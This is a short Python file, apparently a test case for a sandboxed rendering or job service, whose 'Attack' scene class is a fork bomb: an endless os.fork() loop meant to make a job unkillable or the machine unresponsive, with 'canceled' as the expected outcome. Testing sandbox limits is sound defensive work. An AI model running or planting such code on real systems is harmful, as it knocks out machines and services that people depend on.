"""Success: the job cannot be ended, or the machine stops responding.

Outcome: canceled
"""


class Attack(Scene):
    def construct(self):
        while True:
            try:
                os.fork()
            except OSError:
                pass
